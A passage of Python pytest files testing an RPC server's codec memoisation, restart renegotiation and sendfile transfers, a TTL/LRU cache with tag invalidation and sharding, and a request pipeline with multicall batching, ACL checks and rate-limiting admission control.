        assert second == [1] and type(second[0]) is int
        third = self._call(server, "memo.nums").result
        assert third == [1.0] and type(third[0]) is float
        assert "memo.nums" not in server.pipeline._result_memo

    def test_request_memo_only_holds_immutable_params(self, server):
        """Wire-identical binary frames share one decoded request object, so
        only requests whose params no service can mutate may be memoised."""

        codec = BinaryCodec()
        no_params = codec.encode_request(RPCRequest("system.ping"))
        assert codec.decode_response(
            _raw_post(server, no_params, codec.content_type).body_bytes()
        ).result == "pong"
        assert no_params in server.pipeline._request_memo

        listy = codec.encode_request(RPCRequest("system.echo", (["mutable"],)))
        assert codec.decode_response(
            _raw_post(server, listy, codec.content_type).body_bytes()
        ).result == ["mutable"]
        assert listy not in server.pipeline._request_memo

        # A second wire-identical frame reuses the memoised request.
        before = server.pipeline._request_memo[no_params]
        _raw_post(server, no_params, codec.content_type)
        assert server.pipeline._request_memo[no_params] is before

    def test_unencodable_result_faults_identically_to_xml(self, server):
        """The validation the binary path defers to encode time must surface
        as the same fault the XML path's up-front walk produces."""

        server.registry.register("memo.bad", lambda: object(), anonymous=True)
        faults = {}
        for codec in (XMLRPCCodec(), BinaryCodec()):
            body = codec.encode_request(RPCRequest("memo.bad"))
            decoded = codec.decode_response(
                _raw_post(server, body, codec.content_type).body_bytes())
            assert decoded.is_fault
            faults[codec.name] = decoded.fault.code
        assert faults["binary"] == faults["xml-rpc"]


class TestFaultEncodeCache:
    def test_cached_bytes_match_fresh_encode(self, server):
        fault = Fault(FaultCode.PARSE_ERROR, "bad frame")
        for codec in all_codecs():
            fresh = codec.encode_response(RPCResponse.from_fault(fault))
            assert encode_fault_cached(codec, fault) == fresh
            # Second hit serves the identical cached object.
            assert encode_fault_cached(codec, fault) is encode_fault_cached(codec, fault)


class TestRestartRenegotiation:
    """Server restart mid-session: stale keep-alive + codec fallback."""

    def test_restart_downgrades_then_reupgrades(self, ca, host_credential,
                                                tmp_path):
        binary_server = build_server(ca, host_credential,
                                     data_dir=tmp_path / "a")
        frontend = binary_server.socket_server()
        frontend.start()
        host, port = frontend.address
        client = ClarensClient.for_url(frontend.url, negotiate=True)
        try:
            assert client.call("system.ping") == "pong"
            assert client.call("system.ping") == "pong"
            assert client.codec.name == "binary"

            # Restart the endpoint as an XML-only build on the same port.
            frontend.stop()
            binary_server.close()
            xml_server = build_server(ca, host_credential,
                                      protocol_preference=XML_ONLY,
                                      data_dir=tmp_path / "b")
            frontend = xml_server.socket_server(host=host, port=port)
            frontend.start()

            # The next call rides the dead keep-alive socket, reconnects,
            # gets a PARSE_ERROR fault for the binary body, and resends in
            # the base codec — all inside one call() from the caller's view.
            assert client.call("system.ping") == "pong"
            assert client.codec.name == "xml-rpc"
            assert client.call("system.ping") == "pong"

            # Restart again as a binary-enabled build: the accept header
            # travels on every request, so the client re-upgrades.
            frontend.stop()
            xml_server.close()
            server3 = build_server(ca, host_credential,
                                   data_dir=tmp_path / "c")
            frontend = server3.socket_server(host=host, port=port)
            frontend.start()
            assert client.call("system.ping") == "pong"    # reconnect + advert
            assert client.call("system.ping") == "pong"
            assert client.codec.name == "binary"
            frontend.stop()
            server3.close()
        finally:
            client.close()

    def test_paper_mode_client_survives_restart_unchanged(self, ca,
                                                          host_credential,
                                                          tmp_path):
        server = build_server(ca, host_credential, data_dir=tmp_path / "a")
        frontend = server.socket_server()
        frontend.start()
        host, port = frontend.address
        client = ClarensClient.for_url(frontend.url)    # no negotiation
        try:
            assert client.call("system.ping") == "pong"
            frontend.stop()
            server.close()
            server2 = build_server(ca, host_credential,
                                   data_dir=tmp_path / "b")
            frontend = server2.socket_server(host=host, port=port)
            frontend.start()
            assert client.call("system.ping") == "pong"
            assert client.codec.name == "xml-rpc"
            frontend.stop()
            server2.close()
        finally:
            client.close()


DATA = bytes(range(256)) * 200                  # 51200 bytes, every value


def _wait_for_sends(server, expected: int, timeout: float = 2.0) -> int:
    """The counter increments just after the client can finish reading, so
    give the serving thread a beat before asserting on it."""

    deadline = time.monotonic() + timeout
    while server.sendfile_sends < expected and time.monotonic() < deadline:
        time.sleep(0.01)
    return server.sendfile_sends


def _fetch(url: str, path: str) -> bytes:
    conn = http.client.HTTPConnection(*url.removeprefix("http://").split(":"),
                                      timeout=5)
    try:
        conn.request("GET", path)
        response = conn.getresponse()
        assert response.status == 200
        return response.read()
    finally:
        conn.close()


class TestSendfileDataPlane:
    @pytest.mark.parametrize("frontend_cls", [SocketHTTPServer, AsyncHTTPServer],
                             ids=("threaded", "async"))
    @pytest.mark.parametrize("offset,length", [(0, -1), (100, 5000), (51100, -1)],
                             ids=("full", "middle", "tail"))
    def test_sendfile_matches_chunked_byte_for_byte(self, tmp_path,
                                                    frontend_cls, offset, length):
        path = tmp_path / "payload.bin"
        path.write_bytes(DATA)
        want = DATA[offset:] if length < 0 else DATA[offset:offset + length]

        def handler(request: HTTPRequest) -> HTTPResponse:
            return HTTPResponse.ok(
                FilePayload(str(path), offset=offset, length=length),
                content_type="application/octet-stream")

        bodies = {}
        for enabled in (True, False):
            with frontend_cls(handler, sendfile_enabled=enabled) as server:
                bodies[enabled] = _fetch(server.url, "/payload.bin")
                if enabled:
                    assert _wait_for_sends(server, 1) == 1
                else:
                    assert server.sendfile_sends == 0
        assert bodies[True] == bodies[False] == want

    def test_ranged_lfn_read_identical_with_and_without_sendfile(
            self, ca, host_credential, alice_credential, tmp_path):
        """End to end: a ranged file GET through the full server stack."""

        payload = DATA[:8192]
        bodies = {}
        for enabled in (True, False):
            server = build_server(ca, host_credential, sendfile_enabled=enabled,
                                  data_dir=tmp_path / str(enabled))
            frontend = server.socket_server()
            frontend.start()
            try:
                client = ClarensClient.for_url(frontend.url)
                client.login_with_credential(alice_credential)
                client.call("file.write", "/events.dat", payload, False)
                response = client.http_get("events.dat",
                                           query="offset=1000&length=4096")
                assert response.status == 200
                bodies[enabled] = response.body_bytes()
                client.close()
                if enabled:
                    assert _wait_for_sends(frontend, 1) == 1
                else:
                    assert frontend.sendfile_sends == 0
            finally:
                frontend.stop()
                server.close()
        assert bodies[True] == bodies[False] == payload[1000:5096]
