"""Unit tests for the repro.cache subsystem (core, invalidation, decorators)."""

from __future__ import annotations

import threading

import pytest

from repro.cache import invalidate_all
from repro.cache.core import MISSING, NEGATIVE, CacheRegistry, TTLLRUCache
from repro.cache.decorators import cached
from repro.cache.invalidation import InvalidationBus, tag_matches


class FakeClock:
    """A controllable monotonic clock."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


# -- TTLLRUCache basics --------------------------------------------------------

class TestTTLLRUCache:
    def test_put_get_roundtrip(self):
        cache = TTLLRUCache("t")
        cache.put("a", 1)
        assert cache.get("a") == 1
        assert cache.get("b") is MISSING
        assert cache.get("b", None) is None

    def test_empty_cache_is_truthy(self):
        # `if cache:` checks must mean "is a cache configured", not "is it
        # non-empty" — an empty cache being falsy would disable caching.
        assert bool(TTLLRUCache("t")) is True

    def test_ttl_expiry(self):
        clock = FakeClock()
        cache = TTLLRUCache("t", ttl=10.0, clock=clock)
        cache.put("a", 1)
        assert cache.get("a") == 1
        clock.advance(10.0)
        assert cache.get("a") is MISSING
        assert cache.stats.expirations == 1
        assert len(cache) == 0

    def test_per_entry_ttl_overrides_default(self):
        clock = FakeClock()
        cache = TTLLRUCache("t", ttl=10.0, clock=clock)
        cache.put("long", 1, ttl=100.0)
        clock.advance(50.0)
        assert cache.get("long") == 1

    def test_no_ttl_means_no_expiry(self):
        clock = FakeClock()
        cache = TTLLRUCache("t", clock=clock)
        cache.put("a", 1)
        clock.advance(10 ** 9)
        assert cache.get("a") == 1

    def test_lru_eviction_order(self):
        cache = TTLLRUCache("t", maxsize=2)
        cache.put("a", 1)
        cache.put("b", 2)
        cache.get("a")  # "a" is now most recently used
        cache.put("c", 3)
        assert cache.get("b") is MISSING  # least recently used went first
        assert cache.get("a") == 1
        assert cache.get("c") == 3
        assert cache.stats.evictions == 1

    def test_overwrite_does_not_evict(self):
        cache = TTLLRUCache("t", maxsize=2)
        cache.put("a", 1)
        cache.put("b", 2)
        cache.put("a", 10)
        assert len(cache) == 2
        assert cache.stats.evictions == 0
        assert cache.get("a") == 10

    def test_negative_caching(self):
        cache = TTLLRUCache("t")
        cache.put_negative("gone")
        assert cache.get("gone") is NEGATIVE
        assert cache.stats.negative_hits == 1
        assert cache.stats.hits == 1

    def test_invalidate_key(self):
        cache = TTLLRUCache("t")
        cache.put("a", 1)
        assert cache.invalidate("a") is True
        assert cache.invalidate("a") is False
        assert cache.get("a") is MISSING
        assert cache.stats.invalidations == 1

    def test_invalidate_tag_exact_and_hierarchy(self):
        cache = TTLLRUCache("t")
        cache.put("s1", 1, tags=("session:1",))
        cache.put("s2", 2, tags=("session:2",))
        cache.put("m1", 3, tags=("acl:method",))
        assert cache.invalidate_tag("session:1") == 1
        assert cache.get("s1") is MISSING
        assert cache.get("s2") == 2
        # Publishing the family tag flushes everything underneath it.
        assert cache.invalidate_tag("session") == 1
        assert cache.get("s2") is MISSING
        assert cache.get("m1") == 3

    def test_clear(self):
        cache = TTLLRUCache("t")
        cache.put("a", 1, tags=("x",))
        cache.put("b", 2)
        assert cache.clear() == 2
        assert len(cache) == 0
        assert cache.invalidate_tag("x") == 0

    def test_contains_respects_expiry(self):
        clock = FakeClock()
        cache = TTLLRUCache("t", ttl=5.0, clock=clock)
        cache.put("a", 1)
        assert "a" in cache
        clock.advance(5.0)
        assert "a" not in cache

    def test_eviction_cleans_tag_index(self):
        cache = TTLLRUCache("t", maxsize=1)
        cache.put("a", 1, tags=("g",))
        cache.put("b", 2, tags=("g",))
        # "a" was evicted; invalidating the tag must only drop "b".
        assert cache.invalidate_tag("g") == 1
        assert len(cache) == 0

    def test_put_if_epoch_rejects_stale_fill(self):
        # Read-through protocol: capture the epoch, load, store-if-unchanged.
        cache = TTLLRUCache("t")
        epoch = cache.epoch
        # Any invalidation bumps the epoch — even one matching nothing, since
        # the "nothing" may be a concurrent read-through not yet stored.
        cache.invalidate_tag("session:1")
        assert cache.put_if_epoch("k", 1, epoch=epoch) is False
        assert cache.get("k") is MISSING
        fresh = cache.epoch
        assert cache.put_if_epoch("k", 1, epoch=fresh) is True
        assert cache.get("k") == 1

    def test_invalidate_key_bumps_epoch(self):
        cache = TTLLRUCache("t")
        epoch = cache.epoch
        cache.invalidate("missing-key")
        assert cache.epoch > epoch
        cache.put("a", 1)
        epoch = cache.epoch
        cache.clear()
        assert cache.epoch > epoch

    def test_rejects_bad_sizes(self):
        with pytest.raises(ValueError):
            TTLLRUCache("t", maxsize=0)
        with pytest.raises(ValueError):
            TTLLRUCache("t", ttl=0)

    def test_thread_safety_smoke(self):
        cache = TTLLRUCache("t", maxsize=128)
        errors = []

        def worker(base: int) -> None:
            try:
                for i in range(500):
                    cache.put((base, i % 64), i, tags=(f"w:{base}",))
                    cache.get((base, (i + 1) % 64))
                    if i % 100 == 0:
                        cache.invalidate_tag(f"w:{base}")
            except Exception as exc:  # pragma: no cover - failure path
                errors.append(exc)

        threads = [threading.Thread(target=worker, args=(n,)) for n in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert not errors


# -- sharded caches ------------------------------------------------------------

class TestShardedCache:
    def test_roundtrip_and_exact_len(self):
        cache = TTLLRUCache("t", maxsize=1024, shards=8)
        assert cache.shards == 8
        for i in range(200):
            cache.put(f"k{i}", i)
        assert len(cache) == 200
        assert all(cache.get(f"k{i}") == i for i in range(200))

    def test_shards_capped_by_maxsize(self):
        assert TTLLRUCache("t", maxsize=4, shards=64).shards == 4

    def test_stats_are_exact_across_shards(self):
        cache = TTLLRUCache("t", maxsize=1024, shards=8)
        for i in range(100):
            cache.put(f"k{i}", i)
        for i in range(100):
            cache.get(f"k{i}")
        for i in range(50):
            cache.get(f"missing{i}")
        assert cache.stats.hits == 100
        assert cache.stats.misses == 50
        assert cache.stats.stores == 100
        snap = cache.stats_snapshot()
        assert snap["hits"] == 100 and snap["shards"] == 8

    def test_tag_invalidation_spans_shards(self):
        cache = TTLLRUCache("t", maxsize=1024, shards=8)
        for i in range(64):
            cache.put(f"k{i}", i, tags=(f"grp:{i % 2}",))
        assert cache.invalidate_tag("grp:0") == 32
        assert cache.invalidate_tag("grp") == 32
        assert len(cache) == 0

    def test_put_if_epoch_still_race_free(self):
        cache = TTLLRUCache("t", maxsize=1024, shards=8)
        epoch = cache.epoch
        cache.invalidate_tag("anything")
        assert cache.put_if_epoch("k", 1, epoch=epoch) is False
        assert cache.put_if_epoch("k", 1, epoch=cache.epoch) is True

    def test_clear_counts_all_shards(self):
        cache = TTLLRUCache("t", maxsize=1024, shards=8)
        for i in range(40):
            cache.put(i, i)
        assert cache.clear() == 40

    def test_concurrent_stats_exactness(self):
        """Parallel hits/stores are never lost to unsynchronised `+=`."""

        cache = TTLLRUCache("t", maxsize=4096, shards=16)
        n_threads, per_thread = 8, 2000

        def worker(base: int) -> None:
            for i in range(per_thread):
                key = (base, i % 512)
                cache.put(key, i)
                cache.get(key)

        threads = [threading.Thread(target=worker, args=(n,))
                   for n in range(n_threads)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        stats = cache.stats
        assert stats.stores == n_threads * per_thread
        assert stats.hits + stats.misses == n_threads * per_thread

    def test_default_is_single_shard(self):
        assert TTLLRUCache("t").shards == 1

    def test_rejects_bad_shard_count(self):
        with pytest.raises(ValueError):
            TTLLRUCache("t", shards=0)


# -- statistics ----------------------------------------------------------------

class TestStats:
    def test_hit_rate(self):
        cache = TTLLRUCache("t")
        cache.put("a", 1)
        cache.get("a")
        cache.get("a")
        cache.get("zz")
        snap = cache.stats_snapshot()
        assert snap["hits"] == 2
        assert snap["misses"] == 1
        assert snap["hit_rate"] == pytest.approx(2 / 3)
        assert snap["size"] == 1

    def test_registry_aggregation(self):
        registry = CacheRegistry()
        a = registry.create("a")
        b = registry.create("b")
        a.put("k", 1)
        a.get("k")
        b.get("nope")
        snap = registry.stats_snapshot()
        assert set(snap["caches"]) == {"a", "b"}
        assert snap["totals"]["hits"] == 1
        assert snap["totals"]["misses"] == 1
        assert snap["totals"]["hit_rate"] == pytest.approx(0.5)

    def test_registry_rejects_duplicate_names(self):
        registry = CacheRegistry()
        registry.create("a")
        with pytest.raises(ValueError):
            registry.create("a")

    def test_registry_invalidate_all(self):
        registry = CacheRegistry()
        a = registry.create("a")
        b = registry.create("b")
        a.put("k", 1)
        b.put("k", 2)
        assert registry.invalidate_all() == 2
        assert len(a) == 0 and len(b) == 0


# -- invalidation bus ----------------------------------------------------------

class TestInvalidationBus:
    def test_tag_matches(self):
        assert tag_matches("session", "session")
        assert tag_matches("session", "session:abc")
        assert tag_matches("acl:method", "acl")  # family event reaches children
        assert tag_matches("*", "anything")
        assert not tag_matches("session", "sessions:abc")
        assert not tag_matches("acl:method", "acl:file")

    def test_publish_routes_to_matching_caches(self):
        bus = InvalidationBus()
        sessions = TTLLRUCache("sessions")
        acls = TTLLRUCache("acls")
        bus.subscribe("session", sessions)
        bus.subscribe("acl", acls)
        sessions.put("s1", 1, tags=("session:1",))
        acls.put("d1", 2, tags=("acl:method",))
        assert bus.publish("session:1") == 1
        assert sessions.get("s1") is MISSING
        assert acls.get("d1") == 2
        assert bus.published == 1
        assert bus.entries_invalidated == 1

    def test_family_publish_flushes_children(self):
        bus = InvalidationBus()
        acls = TTLLRUCache("acls")
        bus.subscribe("acl", acls)
        acls.put("m", 1, tags=("acl:method",))
        acls.put("f", 2, tags=("acl:file",))
        assert bus.publish("acl") == 2
        assert len(acls) == 0

    def test_bus_invalidate_all(self):
        bus = InvalidationBus()
        cache = TTLLRUCache("c")
        bus.subscribe("x", cache)
        cache.put("a", 1)
        cache.put("b", 2, tags=("y",))  # untagged/other-tag entries flush too
        assert bus.invalidate_all() == 2
        assert len(cache) == 0

    def test_process_wide_invalidate_all(self):
        bus = InvalidationBus()
        cache = TTLLRUCache("c")
        bus.subscribe("x", cache)
        cache.put("a", 1)
        assert invalidate_all() >= 1
        assert len(cache) == 0

    def test_unsubscribe(self):
        bus = InvalidationBus()
        cache = TTLLRUCache("c")
        bus.subscribe("x", cache)
        assert bus.unsubscribe("x", cache) is True
        assert bus.unsubscribe("x", cache) is False
        cache.put("a", 1, tags=("x:1",))
        bus.publish("x:1")
        assert cache.get("a") == 1


# -- decorator -----------------------------------------------------------------

class TestCachedDecorator:
    def test_read_through(self):
        registry = CacheRegistry()
        calls = []

        @cached(registry, "lookups", ttl=60.0)
        def lookup(x):
            calls.append(x)
            return x * 2

        assert lookup(3) == 6
        assert lookup(3) == 6
        assert calls == [3]
        assert registry.get("lookups").stats.hits == 1

    def test_negative_results_cached(self):
        registry = CacheRegistry()
        calls = []

        @cached(registry, "maybe")
        def find(x):
            calls.append(x)
            return None

        assert find("k") is None
        assert find("k") is None
        assert calls == ["k"]

    def test_key_fn_and_tags(self):
        registry = CacheRegistry()

        @cached(registry, "acl", key_fn=lambda dn, m: (dn, m),
                tags=lambda dn, m: (f"acl:{m}",))
        def check(dn, method):
            return f"{dn}->{method}"

        check("alice", "read")
        check("bob", "write")
        cache = registry.get("acl")
        assert cache.invalidate_tag("acl:read") == 1
        assert len(cache) == 1

    def test_exposes_cache_attribute(self):
        registry = CacheRegistry()

        @cached(registry, "c")
        def f(x):
            return x

        f(1)
        assert f.cache is registry.get("c")
        f.cache.clear()
        assert len(f.cache) == 0

    def test_fill_aborted_by_invalidation_during_load(self):
        registry = CacheRegistry()

        race = [True]

        @cached(registry, "r", tags=("t",))
        def load(k):
            if race[0]:
                race[0] = False
                load.cache.invalidate_tag("t")  # writer races the in-flight load
            return k * 2

        assert load(2) == 4            # caller still gets the result...
        assert len(load.cache) == 0    # ...but the stale fill is dropped
        assert load(2) == 4            # next call re-loads and caches
        assert len(load.cache) == 1

    def test_requires_registry_or_cache(self):
        with pytest.raises(ValueError):
            cached(None, "nope")
        explicit = TTLLRUCache("explicit")

        @cached(None, "ignored", cache=explicit)
        def g(x):
            return x + 1

        assert g(1) == 2
        assert len(explicit) == 1
