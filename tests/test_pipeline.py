"""The request pipeline: stage chain, multicall batching, admission control,
sharded dispatch statistics.

Covers the PR-4 acceptance scenarios: both transports route RPC through the
same pipeline object, ``system.multicall`` batches are equivalent to
sequential dispatches (including under concurrency), throttled requests map
to ``RETRY_LATER`` faults in every protocol codec (HTTP 429 on the plain
endpoint) with ``dispatch.throttled`` events on the bus, and the sharded
statistics stay exact under threaded load.
"""

from __future__ import annotations

import http.client
import threading

import pytest

from repro.client.client import ClarensClient
from repro.core.admission import ANONYMOUS_IDENTITY, AdmissionController
from repro.core.dispatch import SESSION_HEADER
from repro.core.errors import RetryLaterError
from repro.core.pipeline import PipelineStage
from repro.httpd.message import Headers, HTTPRequest
from repro.monitoring.bus import MessageBus
from repro.protocols import JSONRPCCodec, SOAPCodec, XMLRPCCodec
from repro.protocols.errors import Fault, FaultCode
from repro.protocols.types import RPCRequest

from tests.conftest import build_server

THROTTLED_DN = "/O=clarens.test/OU=People/CN=Throttled Caller"


def rpc_post(server, body: bytes, *, content_type="text/xml", session_id=None,
             client_dn=None):
    headers = Headers({"Content-Type": content_type})
    if session_id:
        headers.set(SESSION_HEADER, session_id)
    request = HTTPRequest(method="POST", path=server.config.rpc_path(),
                          headers=headers, body=body, client_dn=client_dn)
    return server.handle_request(request)


# -- wiring ---------------------------------------------------------------------

class TestPipelineWiring:
    def test_dispatcher_is_a_facade_over_the_server_pipeline(self, server):
        assert server.dispatcher.pipeline is server.pipeline
        assert server.dispatcher.stats is server.pipeline.stats

    def test_standard_stage_order(self, server):
        assert server.pipeline.stage_names() == [
            "trace", "session", "acl", "admission", "invoke"]

    def test_loopback_and_socket_route_through_one_pipeline(
            self, server, alice_credential):
        """Requests from both transports land in the same stats object."""

        loop_client = ClarensClient.for_loopback(server.loopback())
        loop_client.login_with_credential(alice_credential)
        before = server.pipeline.stats.snapshot()["per_method"].get(
            "system.ping", 0)
        loop_client.call("system.ping")

        with server.socket_server() as sock:
            host, port = sock.address
            body = XMLRPCCodec().encode_request(RPCRequest("system.ping"))
            conn = http.client.HTTPConnection(host, port, timeout=5)
            conn.request("POST", server.config.rpc_path(), body=body,
                         headers={"Content-Type": "text/xml",
                                  SESSION_HEADER: loop_client.session_id})
            response = conn.getresponse()
            assert response.status == 200
            decoded = XMLRPCCodec().decode_response(response.read())
            assert decoded.unwrap() == "pong"
            conn.close()

        after = server.pipeline.stats.snapshot()["per_method"]["system.ping"]
        assert after == before + 2
        loop_client.close()

    def test_keepalive_pipelining_through_socket_server(self, server,
                                                        alice_credential):
        """Many RPCs ride one keep-alive connection through the pipeline."""

        loop_client = ClarensClient.for_loopback(server.loopback())
        loop_client.login_with_credential(alice_credential)
        codec = XMLRPCCodec()
        with server.socket_server(keep_alive=True) as sock:
            host, port = sock.address
            conn = http.client.HTTPConnection(host, port, timeout=5)
            for i in range(6):
                body = codec.encode_request(RPCRequest("system.echo",
                                                       params=(i,)))
                conn.request("POST", server.config.rpc_path(), body=body,
                             headers={"Content-Type": "text/xml",
                                      SESSION_HEADER: loop_client.session_id})
                response = conn.getresponse()
                assert response.getheader("Connection") == "keep-alive"
                assert codec.decode_response(response.read()).unwrap() == i
            conn.close()
        loop_client.close()

    def test_custom_stage_insertion(self, server, client):
        seen: list[tuple[int, str | None]] = []

        class Recorder(PipelineStage):
            name = "recorder"

            def __call__(self, state):
                seen.append((state.trace_id, state.dn))

        server.pipeline.insert_stage(Recorder(), after="session")
        assert server.pipeline.stage_names() == [
            "trace", "session", "recorder", "acl", "admission", "invoke"]
        client.call("system.ping")
        assert seen and seen[-1][0] > 0
        assert seen[-1][1] == client.dn
        # The custom stage shows up in the latency breakdown too.
        assert "recorder" in server.pipeline.stats.snapshot()["stages"]

    def test_insert_stage_rejects_unknown_anchor(self, server):
        with pytest.raises(ValueError):
            server.pipeline.insert_stage(PipelineStage(), before="nope")

    def test_per_stage_latency_in_system_stats(self, server, client,
                                               admin_client):
        client.call("system.list_methods")
        stats = admin_client.call("system.stats")
        for stage in ("decode", "trace", "session", "acl", "admission",
                      "invoke", "encode"):
            assert stage in stats["stages"], f"missing stage {stage}"
            assert stats["stages"][stage]["calls"] > 0
        assert stats["stages"]["invoke"]["seconds"] >= 0.0

    def test_access_checks_ablation_still_works(self, ca, host_credential):
        for checks in (0, 1, 2):
            server = build_server(ca, host_credential,
                                  access_checks_per_request=checks)
            try:
                client = ClarensClient.for_loopback(server.loopback())
                assert client.call("system.ping") == "pong"
            finally:
                server.close()


# -- system.multicall -----------------------------------------------------------

class TestMulticall:
    def test_batch_equivalent_to_sequential(self, client):
        calls = [("system.echo", [i]) for i in range(10)]
        calls += [("system.ping", []), ("system.list_methods", [])]
        batched = client.multicall(calls)
        sequential = [client.call(m, *p) for m, p in calls]
        assert batched == sequential

    def test_fault_per_entry_does_not_poison_the_batch(self, client):
        results = client.multicall([
            ("system.echo", ["ok-1"]),
            ("no.such.method", []),
            ("system.method_help", []),          # missing required argument
            ("system.echo", ["ok-2"]),
        ])
        assert results[0] == "ok-1"
        assert isinstance(results[1], Fault)
        assert results[1].code == FaultCode.NOT_FOUND
        assert isinstance(results[2], Fault)
        assert results[2].code == FaultCode.INVALID_PARAMS
        assert results[3] == "ok-2"

    def test_anonymous_batch_limited_to_anonymous_methods(self, anon_client):
        results = anon_client.multicall([
            ("system.ping", []),
            ("file.ls", ["/"]),                  # requires authentication
        ])
        assert results[0] == "pong"
        assert isinstance(results[1], Fault)
        assert results[1].code == FaultCode.AUTHENTICATION_REQUIRED

    def test_nested_multicall_rejected_per_entry(self, client):
        results = client.multicall([
            ("system.multicall", [[]]),
            ("system.ping", []),
        ])
        assert isinstance(results[0], Fault)
        assert results[0].code == FaultCode.ACCESS_DENIED
        assert results[1] == "pong"

    def test_malformed_entries_fault_in_place(self, client):
        raw = client.call("system.multicall", [
            "not a struct",
            {"params": [1]},                      # no methodName
            {"methodName": "system.echo", "params": "not-an-array"},
            {"methodName": "system.echo", "params": [7]},
        ])
        assert [slot["faultCode"] for slot in raw[:3]] == \
            [FaultCode.INVALID_PARAMS] * 3
        assert raw[3] == [7]

    def test_acl_denial_amortized_per_distinct_method(self, server, client,
                                                      admin_client):
        from repro.acl.model import ACL

        admin_client.call("acl.set_method_acl", "file",
                          ACL(order="allow,deny",
                              dns_allowed=["/O=nobody/CN=none"]).to_record())
        results = client.multicall([("file.ls", ["/"]),
                                    ("file.ls", ["/tmp"]),
                                    ("system.ping", [])])
        assert all(isinstance(r, Fault) and r.code == FaultCode.ACCESS_DENIED
                   for r in results[:2])
        assert results[2] == "pong"

    def test_submethods_counted_in_per_method_stats(self, server, client):
        before = server.pipeline.stats.snapshot()["per_method"]
        client.multicall([("system.echo", [i]) for i in range(5)])
        after = server.pipeline.stats.snapshot()["per_method"]
        assert after.get("system.echo", 0) - before.get("system.echo", 0) == 5
        assert after["system.multicall"] - before.get("system.multicall", 0) == 1

    def test_batch_size_limit_faults_the_request(self, ca, host_credential,
                                                 alice_credential):
        """An oversized batch is refused whole: one admission token must not
        buy unbounded work."""

        server = build_server(ca, host_credential, dispatch_multicall_limit=3)
        try:
            client = ClarensClient.for_loopback(server.loopback())
            client.login_with_credential(alice_credential)
            assert client.multicall([("system.ping", [])] * 3) == ["pong"] * 3
            with pytest.raises(Fault) as excinfo:
                client.multicall([("system.ping", [])] * 4)
            assert excinfo.value.code == FaultCode.INVALID_PARAMS
            client.close()
        finally:
            server.close()

    def test_concurrent_multicalls_match_sequential(self, server, loopback,
                                                    alice_credential):
        """Threaded batches all return exactly their own inputs."""

        n_threads, n_calls = 6, 25
        failures: list[str] = []

        def worker(tid: int) -> None:
            client = ClarensClient.for_loopback(loopback)
            try:
                client.login_with_credential(alice_credential)
                expected = [f"t{tid}-{i}" for i in range(n_calls)]
                batch = [("system.echo", [value]) for value in expected]
                for _ in range(3):
                    if client.multicall(batch) != expected:
                        failures.append(f"thread {tid} diverged")
            except Exception as exc:  # noqa: BLE001
                failures.append(f"thread {tid}: {exc!r}")
            finally:
                client.close()

        threads = [threading.Thread(target=worker, args=(t,))
                   for t in range(n_threads)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=30)
        assert not failures, failures
        per_method = server.pipeline.stats.snapshot()["per_method"]
        assert per_method["system.echo"] == n_threads * n_calls * 3
        assert per_method["system.multicall"] == n_threads * 3


# -- admission control ----------------------------------------------------------

class TestAdmissionController:
    def test_token_bucket_refills_at_rate(self):
        clock = [0.0]
        controller = AdmissionController(rate=2.0, burst=2.0,
                                         clock=lambda: clock[0])
        controller.admit("dn", "m")()
        controller.admit("dn", "m")()
        with pytest.raises(RetryLaterError) as excinfo:
            controller.admit("dn", "m")
        assert excinfo.value.retry_after == pytest.approx(0.5)
        clock[0] += 0.5                      # one token refilled
        controller.admit("dn", "m")()
        with pytest.raises(RetryLaterError):
            controller.admit("dn", "m")

    def test_identities_are_isolated(self):
        clock = [0.0]
        controller = AdmissionController(rate=1.0, burst=1.0,
                                         clock=lambda: clock[0])
        controller.admit("alice", "m")()
        with pytest.raises(RetryLaterError):
            controller.admit("alice", "m")
        controller.admit("bob", "m")()       # different bucket
        controller.admit(None, "m")()        # the anonymous principal
        assert controller.stats()["throttled"] == 1

    def test_max_inflight_releases_on_finish(self):
        controller = AdmissionController(max_inflight=1)
        release = controller.admit("dn", "m")
        with pytest.raises(RetryLaterError):
            controller.admit("dn", "m")
        release()
        release()                            # double release is harmless
        controller.admit("dn", "m")()

    def test_fractional_burst_clamped_to_one_token(self):
        """A burst below one token must not reject every request forever."""

        controller = AdmissionController(rate=50.0, burst=0.5)
        assert controller.burst >= 1.0
        controller.admit("dn", "m")()

    def test_idle_buckets_are_prunable_under_rate_limiting(self):
        """Pruning projects the refill, so idle rate-limited buckets go away."""

        clock = [0.0]
        controller = AdmissionController(rate=1.0, burst=2.0,
                                         clock=lambda: clock[0])
        controller.admit("idle-dn", "m")()   # leaves the bucket below burst
        clock[0] += 5.0                      # long idle: balance refills
        with controller._lock:
            controller._prune(clock[0])
        assert controller.stats()["identities"] == 0


class TestAdmissionStage:
    @pytest.fixture()
    def throttled_server(self, ca, host_credential):
        server = build_server(ca, host_credential,
                              dispatch_rate_limit=0.001, dispatch_burst=2)
        yield server
        server.close()

    def test_excess_requests_get_retry_later_fault(self, throttled_server,
                                                   alice_credential):
        events: list[dict] = []
        throttled_server.message_bus.subscribe(
            "dispatch.throttled", lambda m: events.append(m.payload))
        # Identify via the certificate DN so no login calls spend tokens.
        client = ClarensClient.for_loopback(throttled_server.loopback(),
                                            credential=alice_credential)
        dn = str(alice_credential.certificate.subject)

        assert client.call("system.ping") == "pong"
        assert client.call("system.ping") == "pong"
        with pytest.raises(Fault) as excinfo:
            client.call("system.ping")
        assert excinfo.value.code == FaultCode.RETRY_LATER
        assert events and events[0]["identity"] == dn
        assert events[0]["reason"] == "rate"
        assert throttled_server.pipeline.stats.snapshot()["throttled"] >= 1
        client.close()

    def test_other_identities_unaffected(self, throttled_server,
                                         alice_credential, bob_credential):
        alice_dn = str(alice_credential.certificate.subject)
        bob_dn = str(bob_credential.certificate.subject)
        codec = XMLRPCCodec()
        body = codec.encode_request(RPCRequest("system.ping"))
        for _ in range(3):
            rpc_post(throttled_server, body, client_dn=alice_dn)
        throttled = rpc_post(throttled_server, body, client_dn=alice_dn)
        assert throttled.status == 429
        ok = rpc_post(throttled_server, body, client_dn=bob_dn)
        assert ok.status == 200
        assert codec.decode_response(ok.body_bytes()).unwrap() == "pong"

    @pytest.mark.parametrize("codec", [XMLRPCCodec(), SOAPCodec(), JSONRPCCodec()],
                             ids=["xml-rpc", "soap", "json-rpc"])
